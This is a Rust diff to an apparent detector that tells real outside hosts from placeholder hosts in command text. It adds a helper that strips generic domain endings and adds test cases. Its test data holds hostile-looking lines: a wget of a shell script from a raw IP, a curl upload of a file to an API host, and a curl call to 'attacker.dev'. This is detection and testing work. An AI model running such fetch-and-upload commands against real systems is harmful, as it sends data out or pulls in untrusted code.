@@ -36,8 +36,14 @@ fn is_real(host: &[u8]) -> bool {
                 || address.is_documentation())
         }
         Ok(IpAddr::V6(_)) => false,
-        Err(_) => host.contains('.') && !SAMPLE.is_match(host.as_bytes()),
+        Err(_) => host.contains('.') && !SAMPLE.is_match(named(host).as_bytes()),
     }
+}
+
+/// A host without an ending that is a word for any host and yet one under which anybody registers.
+fn named(host: &str) -> &str {
+    const ENDINGS: [&str; 5] = [".dev", ".site", ".host", ".company", ".domains"];
+    ENDINGS.iter().find_map(|ending| host.strip_suffix(ending)).unwrap_or(host)
 }
 
 #[cfg(test)]
@@ -59,6 +65,7 @@ mod tests {
             "curl http://localhost:3000/",
             "curl http://TARGET/x",
             "curl http://target.com/x",
+            "curl https://attacker.dev/x",
             "no address",
         ] {
             assert!(!at_real_host(text.as_bytes()), "{text}");
@@ -67,6 +74,7 @@ mod tests {
             "curl https://kit-sync.net/in",
             "wget 'http://45.9.148.3/a.sh'",
             "curl -d @f https://user:x@api.kit-sync.io/v1",
+            "curl https://in.kit-sync.dev/v1",
         ] {
             assert!(at_real_host(text.as_bytes()), "{text}");
         }
